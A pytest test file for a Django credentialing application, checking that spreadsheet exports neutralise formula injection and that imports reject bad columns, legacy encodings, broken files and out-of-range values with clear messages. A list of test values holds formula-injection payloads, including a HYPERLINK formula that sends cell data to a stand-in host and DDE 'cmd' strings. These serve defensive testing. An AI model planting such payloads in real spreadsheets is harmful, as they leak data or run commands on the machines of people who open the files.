"""Spreadsheets a hostile tester made or opened: formulas smuggled into exports, files the import cannot read
(no e-mail column, unknown columns, legacy encodings, the wrong format), numbers, texts and dates past limits."""
import csv
import io

import openpyxl
import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from hypothesis import given
from hypothesis import strategies as st

from credentialing.importing import COLUMNS, error_report
from credentialing.models import Application
from credentialing.resources import run_import
from credentialing.spreadsheets import FORMULA_STARTS, escape_formula, unescape_formula
from people.models import User
from tests.credentialing.factories import ApplicationFactory, UserFactory, with_totp

pytestmark = pytest.mark.django_db

IMPORT_URL = "/admin/credentialing/application/import/"
EXPORT_URL = "/admin/credentialing/application/export/"
HOSTILE_VALUES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                  "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "==1+1", " =1+1", "＝1+1", "'=1+1"]


@pytest.fixture
def coordinator_client(client):
    client.force_login(with_totp(UserFactory(is_staff=True, is_superuser=True)))
    return client


def import_row(**overrides) -> dict:
    values = {
        "email": "li.na@example.org", "full_name": "李娜", "phone": "13800001111", "institution": "武汉大学",
        "province": "湖北省", "city": "武汉市", "timezone": "Asia/Shanghai", "languages": "中文",
        "role": "counselor", "channels": "voice,text", "qualification_kind": "registered-psychologist",
        "qualification_number": "R-2019-0001", "qualification_issuer": "中国心理学会",
        "qualification_issued_on": "2019-06-01", "qualification_expires_on": "", "ethics_hours_approved": "16",
        "ethics_hours_other": "4", "special_topics": "trauma,first_aid,crisis", "practice_hours": "650", "state": "",
    }
    return values | overrides


def dataset_of(*rows: dict, headers=COLUMNS) -> tablib.Dataset:
    data = tablib.Dataset(headers=list(headers))
    for row in rows:
        data.append([row.get(column, "") for column in headers])
    return data


def export(client, label: str) -> bytes:
    form = client.get(EXPORT_URL).context["form"]
    index = next(value for value, text in form.fields["format"].choices if text == label)
    response = client.post(EXPORT_URL, {"format": index, **{name: True for name in form.fields
                                                            if name.startswith("applicationresource_")}})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def hostile_applications():
    for number, value in enumerate(HOSTILE_VALUES):
        ApplicationFactory(full_name=value, city=value, province=value[:50], phone=value[:30], languages=value,
                           applicant=UserFactory(email=f"hostile{number}@example.org"))


# --- 3. exports: no cell runs as a formula ---------------------------------------------------------------


def test_no_cell_of_a_csv_export_runs_as_a_formula_and_it_imports_back_unchanged(coordinator_client):
    hostile_applications()
    content = export(coordinator_client, "csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(content)))
    assert len(rows) == len(HOSTILE_VALUES)
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS) and not value.lstrip().startswith(FORMULA_STARTS), value
    assert {row["full_name"] for row in rows} == {escape_formula(value) for value in HOSTILE_VALUES}

    # The escaped file imports back to what was typed (whitespace collapsed, as every import does).
    Application.objects.all().delete()
    User.objects.filter(email__startswith="hostile").delete()
    for row in rows:
        row["state"] = "draft"
    result = run_import(dataset_of(*rows))
    assert not error_report(result)
    assert set(Application.objects.values_list("full_name", flat=True)) == {
        " ".join(value.split()) for value in HOSTILE_VALUES}


def test_no_cell_of_an_xlsx_export_is_a_formula(coordinator_client):
    hostile_applications()
    sheet = openpyxl.load_workbook(io.BytesIO(export(coordinator_client, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    assert not [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)]


@given(st.text())
def test_escaping_never_leaves_a_formula_and_can_always_be_undone(text):
    escaped = escape_formula(text)
    assert not escaped.startswith(FORMULA_STARTS)
    assert unescape_formula(escaped) == text


# --- 6. import: only importable formats; every problem with a file is a message ------------------------------


def test_only_formats_that_can_import_are_offered(coordinator_client):
    form = coordinator_client.get(IMPORT_URL).context["form"]
    assert [label for _value, label in form.fields["format"].choices if _value != ""] == ["csv", "xlsx"]


def post_import(client, content: bytes, label: str = "csv", name: str = "people.csv"):
    form = client.get(IMPORT_URL).context["form"]
    index = next(value for value, text in form.fields["format"].choices if text == label)
    return client.post(IMPORT_URL, {"import_file": SimpleUploadedFile(name, content), "format": index})


@pytest.mark.parametrize(("headers", "expected"), [
    (tuple(c for c in COLUMNS if c != "email"), "no “email” column"),
    (("e-mail", *COLUMNS[1:]), "no “email” column"),
    (("name", "mail"), "no “email” column"),
    ((*COLUMNS, "salary"), "does not know: salary"),
])
def test_a_file_with_wrong_columns_gets_a_message_not_a_traceback(coordinator_client, headers, expected):
    content = dataset_of(import_row(), headers=headers).export("csv").encode()
    response = post_import(coordinator_client, content)
    page = response.content.decode()
    assert response.status_code == 200
    assert expected in page
    assert "Traceback" not in page and "Error" not in page.replace("Errors", "")
    assert "confirm_form" not in response.context and not Application.objects.exists()


# A name in each legacy encoding's own script; the other cells are plain ASCII.
LEGACY_NAMES = {"latin-1": "Müller José", "cp1252": "Łukasz Müller"[1:], "gbk": "李娜 武汉", "gb18030": "王芳 湖北",
                "big5": "李娜 臺北", "shift_jis": "山田 太郎", "utf-16": "李娜 Müller"}


def ascii_row(**overrides) -> dict:
    return import_row(institution="Wuhan University", province="Hubei", city="Wuhan", languages="Chinese",
                      qualification_issuer="Registration system", **overrides)


@pytest.mark.parametrize("encoding", sorted(LEGACY_NAMES))
@pytest.mark.parametrize(("language", "expected"), [("en", "is not UTF-8 text"), ("zh-hans", "不是 UTF-8")])
def test_a_file_in_a_legacy_encoding_gets_a_message_in_the_persons_language(coordinator_client, encoding,
                                                                             language, expected):
    content = dataset_of(ascii_row(full_name=LEGACY_NAMES[encoding])).export("csv").encode(encoding)
    coordinator_client.cookies["django_language"] = language
    response = post_import(coordinator_client, content)
    errors = " ".join(response.context["form"].errors["import_file"])
    assert expected in errors
    assert "UnicodeDecodeError" not in response.content.decode()
    assert not Application.objects.exists()


@pytest.mark.parametrize(("label", "content"), [("xlsx", b"email,full_name\nx@example.org,X\n"),
                                                ("xlsx", b"PK\x03\x04 broken zip"),
                                                ("csv", b"\x00\x01\x02\xff\xfe")])
def test_a_file_that_is_not_what_its_format_says_gets_a_message(coordinator_client, label, content):
    response = post_import(coordinator_client, content, label)
    errors = " ".join(response.context["form"].errors["import_file"])
    assert "Nothing was imported" in errors
    assert "Error" not in errors and "encountered" not in errors


@pytest.mark.parametrize("encoding", ["latin-1", "gbk"])
def test_the_import_command_says_what_is_wrong_with_the_encoding(tmp_path, encoding):
    path = tmp_path / "people.csv"
    path.write_bytes(dataset_of(ascii_row(full_name=LEGACY_NAMES[encoding])).export("csv").encode(encoding))
    with pytest.raises(CommandError, match="not UTF-8 text"):
        call_command("import_applications", str(path))
    assert not Application.objects.exists()


@pytest.mark.parametrize(("column", "value"), [
    ("practice_hours", "50000.1"), ("practice_hours", "999999.9"), ("practice_hours", "1e9"),
    ("ethics_hours_approved", "1000.1"), ("ethics_hours_other", "4500"),
    ("qualification_issued_on", "0001-01-01"), ("qualification_expires_on", "9999-12-31"),
    ("qualification_issued_on", "1900-01-01"),
    ("full_name", "名" * 101), ("city", "c" * 51), ("phone", "1" * 31), ("institution", "i" * 201),
])
def test_an_import_row_past_a_limit_is_a_message_naming_row_and_column(column, value):
    overrides = {column: value}
    if column == "ethics_hours_other":
        overrides["ethics_hours_approved"] = "900"
    result = run_import(dataset_of(import_row(**overrides)))
    errors = error_report(result)
    assert errors and all(line.startswith("Row 1") for line in errors), errors
    assert any(column in line for line in errors), errors
    assert not Application.objects.exists()
